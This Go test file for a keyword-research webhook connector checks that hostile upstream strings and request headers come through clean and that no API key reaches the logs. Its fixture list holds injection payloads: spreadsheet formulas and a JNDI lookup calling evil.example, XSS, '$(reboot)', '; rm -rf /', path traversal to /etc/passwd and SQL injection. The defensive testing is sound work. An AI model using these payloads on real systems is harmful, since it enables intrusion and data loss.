package connector_test

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	webhooks "github.com/standard-webhooks/standard-webhooks/libraries/go"

	"github.com/usesoke/soke-connector/triggers"
)

// hostile is what keywords may look like that somebody has made to do harm: they come from the titles
// of other people's videos.
var hostile = []string{
	// Other people's line breaks, log records and terminals.
	"a\nb", "a\r\nb", "a\rb", "\n{\"level\":\"ERROR\",\"msg\":\"forged\"}", "\ntime=2026-01-01T00:00:00Z level=ERROR msg=forged", "a\u2028b\u2029c", "a\u0085b", "a\vb\fc",
	"\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\u009b31m", "a\tb", "a\bb\x7f", "\x01\x02\x1f", "nul\x00inside", "\x00",
	// Directions, marks and things that are not to be seen.
	"\u202egnp.exe", "\u2066a\u2069", "\u200f\u200e", "\u200b", "\ufeffbom", "a\u00adb", "\u0345\u0363", "z\u0337\u0322\u0327a\u0338\u0321\u0328l\u0335\u0323go\u0334\u0322", strings.Repeat("a\u0300\u0301\u0302", 100),
	"\ufffe\uffff", "\ufffd", "\U000e0001\U000e0061", "\ue000", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇩🇪", "ﷺ", "Ω≈ç√∫˜µ≤≥÷", "田中さんにあげて下さい", "الكل في المجمو عة", "İıſK", "ß", "ﬀ",
	// Sheets.
	`=HYPERLINK("https://evil.example","x")`, `=IMPORTXML("https://evil.example/"&A1,"//a")`, "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "'=1", "＝1+1", "%0A=1",
	// Pages, templates, shells, queries.
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `<![CDATA[x]]>`, `</script><!--`, "javascript:alert(1)", "{{constructor.constructor('x')()}}", "${jndi:ldap://evil.example/a}",
	"{{ $json.x }}", "{{1.keyword}}", "%s%n%x%d", "$(reboot)", "`reboot`", "; rm -rf /", "../../../etc/passwd", `C:\con`, "' OR '1'='1", `"; DROP TABLE watches; --`, `\`, `"`, `\"`, `\u0000`, "%00", "&amp;&#0;",
	// Names and values that languages take for something else.
	"__proto__", "constructor", "toString", "null", "undefined", "NaN", "true", "0", "-0", "1e999", "9007199254740993", "[object Object]", "nil", "None", "sk_live_…tive",
	strings.Repeat("long ", 1<<10/5),
}

// raw is JSON of keywords that no text of Go's can hold.
var raw = []string{`"\ud800"`, `"\udc00\ud800"`, `"a\ud83d"`, `"\uD83D\uDE00"`, `"\/\b\f"`, `"\u003cscript\u003e"`, `{"keyword":"twice","keyword":"again"}`, `{"keyword":{"a":1}}`, `{"keyword":"proto","__proto__":{"keyword":"x"}}`, `null`, `[]`, `1e999`, `{}`, `true`}

// hostileSoke is Soke's envelope around the hostile keywords; the first answer has only one.
type hostileSoke struct {
	researches atomic.Int64
	// requestID is what Soke calls the request; limit, a header's value.
	requestID, limit string
}

func (u *hostileSoke) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	keywords := []string{`{"keyword":"calm","competitionScore":0.5,"trendDirection":"stable"}`}
	if strings.HasSuffix(r.URL.Path, "/research/keywords") && u.researches.Add(1) > 1 {
		keywords = slices.Concat(keywords, raw)
		for _, k := range hostile {
			text, _ := json.Marshal(k)
			keywords = append(keywords, fmt.Sprintf(`{"keyword":%s,"competitionScore":0.5,"trendDirection":%s,"note":%s}`, text, text, text))
		}
	}
	id, _ := json.Marshal(u.requestID)
	w.Header().Set("X-Soke-Remaining", u.limit)
	w.Header().Set("X-Evil", "1")
	w.Header().Set("Set-Cookie", "a=b")
	w.Header().Set("Access-Control-Allow-Origin", "*")
	_, _ = fmt.Fprintf(w, `{"success":true,"data":{"keywords":[%s]},"meta":{"request_id":%s}}`, strings.Join(keywords, ","), id)
}

func overHostileSoke() option {
	return withUpstream(&hostileSoke{requestID: "a\r\nX-Evil: 1\x1b[31m", limit: "9\x80evil"})
}

// records holds a log to one JSON object a line, and returns the lines.
func records(t *testing.T, log string) []map[string]any {
	t.Helper()
	var all []map[string]any
	for line := range strings.Lines(log) {
		var record map[string]any
		if err := json.Unmarshal([]byte(line), &record); err != nil || record["msg"] == nil || record["msg"] == "forged" || !utf8.ValidString(line) {
			t.Errorf("this is no record: %.300q", line)
		}
		all = append(all, record)
	}
	if len(all) == 0 {
		t.Error("nothing was logged")
	}
	return all
}

// clean holds what went out to valid JSON in valid UTF-8.
func clean(t *testing.T, what string, body []byte) {
	t.Helper()
	if !json.Valid(body) || !utf8.Valid(body) {
		t.Errorf("%s is not clean: %.300q", what, body)
	}
}

var eventID = regexp.MustCompile(`^evt_[0-9a-z]{20,60}$`)

func TestHostileKeywordsGoOutUnchangedAndHarmNothingOnTheWay(t *testing.T) {
	w := startWatching(t, overHostileSoke())
	in := receive(t)
	made := w.subscribe("n8n", "new-keyword", espresso, in.URL)
	w.pass(0)
	w.pass(time.Hour)

	a := w.post("/v1/zapier/actions/research-keywords", `{"topic":"x"}`)
	clean(t, "the action's answer", a.body)
	if a.status != http.StatusOK {
		t.Fatalf("%d %.300s", a.status, a.body)
	}
	var researched []string
	for _, k := range a.object(t)["keywords"].([]any) {
		if text, ok := k.(map[string]any)["keyword"].(string); ok {
			researched = append(researched, text)
		}
	}
	for name, values := range a.header {
		if strings.Contains(name, "Evil") || strings.HasPrefix(name, "Access-Control-") || name == "Set-Cookie" || strings.ContainsFunc(strings.Join(values, ""), func(c rune) bool { return c < ' ' || c > '~' }) {
			t.Errorf("Soke's %s: %q was passed on", name, values)
		}
	}

	page := w.post("/v1/zapier/triggers/new-keyword/poll", "{"+espresso+"}")
	clean(t, "the poll's answer", page.body)
	polled := w.events("n8n", "new-keyword", "{"+espresso+`,"limit":100}`)
	again := w.events("n8n", "new-keyword", "{"+espresso+`,"limit":100}`)
	if !slices.Equal(ids(polled), ids(again)) {
		t.Error("a second poll has other ids")
	}
	arrived := in.all()
	if len(arrived) != 1 {
		t.Fatalf("%d posts", len(arrived))
	}
	clean(t, "the webhook's body", arrived[0].raw)
	verifier, err := webhooks.NewWebhook(made["signingSecret"].(string))
	if err != nil {
		t.Fatal(err)
	}
	if err := verifier.VerifyIgnoringTimestamp(arrived[0].raw, arrived[0].header); err != nil {
		t.Errorf("the signature: %v", err)
	}
	var folds, pushed []string
	for _, e := range arrived[0].body["events"].([]any) {
		event := e.(map[string]any)
		id, keyword := event["id"].(string), event["keyword"].(string)
		if !eventID.MatchString(id) || slices.Contains(pushed, id) {
			t.Errorf("%q has the id %q", keyword, id)
		}
		pushed, folds = append(pushed, id), append(folds, triggers.Fold(keyword))
		if note, ok := event["details"].(map[string]any)["note"].(string); ok && (!slices.Contains(hostile, note) || keyword != strings.TrimSpace(note)) {
			t.Errorf("%.60q became %.60q", note, keyword)
		}
	}
	for _, e := range polled {
		if e["baseline"] != true && !slices.Contains(pushed, e["id"].(string)) {
			t.Errorf("%s was polled and not pushed", e["id"])
		}
	}
	for _, k := range hostile {
		if !slices.Contains(researched, k) {
			t.Errorf("the action lacks %.60q", k)
		}
		if !slices.Contains(folds, triggers.Fold(k)) {
			t.Errorf("the webhook lacks %.60q", k)
		}
	}
	records(t, w.logs.String())
}

func TestAHostileFailureOfSokesIsOneCleanSentenceAndOneRecord(t *testing.T) {
	s := start(t, withUpstream(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		n, _ := strconv.Atoi(r.URL.Query().Get("n"))
		said, code := quoted(t, hostile[n]), `"BAD_REQUEST"`
		if strings.HasSuffix(r.URL.Path, "/code") {
			code = said
		}
		w.WriteHeader(http.StatusBadRequest)
		_, _ = fmt.Fprintf(w, `{"success":false,"error":{"code":%[2]s,"message":%[1]s,"details":{%[1]s:%[1]s}},"meta":{"request_id":%[1]s}}`, said, code)
	})))
	for n, text := range hostile {
		for _, path := range []string{"/v1/zapier/soke/x", "/v1/n8n/soke/x", "/v1/make/soke/code"} {
			a := s.call(http.MethodGet, fmt.Sprintf("%s?n=%d", path, n), "", "X-Soke-Key", activeKey)
			clean(t, "the failure", a.body)
			failure := a.failure(t)
			message, _ := failure["message"].(string)
			if details := fmt.Sprint(failure["details"], failure["code"]); strings.ContainsFunc(details, unicode.IsControl) {
				t.Errorf("%.60q becomes the details %.100q", text, details)
			}
			if a.status < 400 || len([]rune(message)) > 250 || strings.ContainsFunc(message, unicode.IsControl) {
				t.Errorf("%.60q becomes %d %q", text, a.status, message)
			}
		}
	}
	records(t, s.logs.String())
}

func TestAnAnswerOfSokesThatIsNoTextIsRefusedWhole(t *testing.T) {
	for name, body := range map[string]string{
		"not UTF-8":            "{\"success\":true,\"data\":{\"keywords\":[{\"keyword\":\"\xff\xfe\"}]}}",
		"an overlong encoding": "{\"success\":true,\"data\":{\"keywords\":[{\"keyword\":\"\xc0\xaf\"}]}}",
		"half of a surrogate":  "{\"success\":true,\"data\":{\"keywords\":[{\"keyword\":\"\xed\xa0\x80\"}]}}",
		"a raw line break":     "{\"success\":true,\"data\":{\"keywords\":[{\"keyword\":\"a\nb\"}]}}",
		"deep":                 `{"success":true,"data":` + strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000) + `}`,
		"a page":               `<html><script>alert(1)</script>`,
	} {
		s := start(t, withUpstream(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, body) })))
		for _, path := range []string{"/v1/make/actions/research-keywords", "/v1/make/soke/research/keywords"} {
			a := s.post(path, `{"topic":"x"}`)
			clean(t, "the refusal", a.body)
			if a.status != http.StatusBadGateway || a.failure(t)["code"] != "UPSTREAM_UNAVAILABLE" {
				t.Errorf("%s, %s: %d %.200s", name, path, a.status, a.body)
			}
		}
		records(t, s.logs.String())
	}
}

func TestAnEventOfSokesThatIsNoTextEndsItsStreamWithAFailure(t *testing.T) {
	for name, event := range map[string]string{
		"not UTF-8":               "\xff\xfe",
		"a text that is not":      "{\"a\":\"\xed\xa0\x80\"}",
		"no JSON":                 "not json",
		"a NUL":                   "{\"a\":\"\x00\"}",
		"a bare escape":           `\ud800`,
		"deep":                    strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000),
		"more than 1 MiB":         `"` + strings.Repeat("x", 1<<20) + `"`,
		"a page, and then an end": "<html>",
	} {
		s := start(t, withUpstream(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/event-stream")
			_, _ = io.WriteString(w, "data: {\"a\":1}\n\ndata: "+event+"\n\ndata: [DONE]\n\n")
		})))
		for _, path := range streamPaths {
			a := s.post(path, streamBody)
			events, err := eventsIn(string(a.body))
			if err != nil || len(events) != 2 || events[0] != `{"a":1}` || !strings.Contains(events[1], `"code":"UPSTREAM_UNAVAILABLE"`) {
				t.Errorf("%s, %s: %.300s", name, path, a.body)
				continue
			}
			clean(t, "the failure", []byte(events[1]))
		}
		records(t, s.logs.String())
	}
}

func TestAHostileRequestLeavesOneRecordAndNoKeyInIt(t *testing.T) {
	s := start(t)
	documentOf(t, s) // its request is on the record, too
	const canary = "sk_live_canary_0123456789"
	begun := len(records(t, s.logs.String()))
	for _, text := range hostile {
		visible := strings.Map(func(c rune) rune {
			if c < ' ' && c != '\t' || c == 0x7f {
				return -1 // no header can hold it
			}
			return c
		}, text[:min(len(text), 1000)]) + "!"
		s.call(http.MethodPost, "/v1/zapier/actions/"+escaped(text), `{"topic":`+quoted(t, text)+`}`,
			"X-Soke-Key", canary, "X-Request-Id", visible, "User-Agent", visible, "X-Forwarded-For", visible, "Idempotency-Key", visible, "Referer", canary)
		s.call(http.MethodPost, "/v1/zapier/actions/research-keywords?key="+canary+"&x="+escaped(text), `{"topic":`+quoted(t, text)+`}`, "X-Soke-Key", canary)
	}
	if got, want := len(records(t, s.logs.String()))-begun, 2*len(hostile); got != want {
		t.Errorf("%d requests left %d records", want, got)
	}
	if strings.Contains(s.logs.String(), "canary") {
		t.Error("the log holds a key")
	}
}

// escaped is a text in a path or a query, each of its bytes escaped.
func escaped(s string) string {
	if len(s) > 300 {
		s = s[:300]
	}
	var out strings.Builder
	for _, b := range []byte(s) {
		fmt.Fprintf(&out, "%%%02x", b)
	}
	return out.String()
}
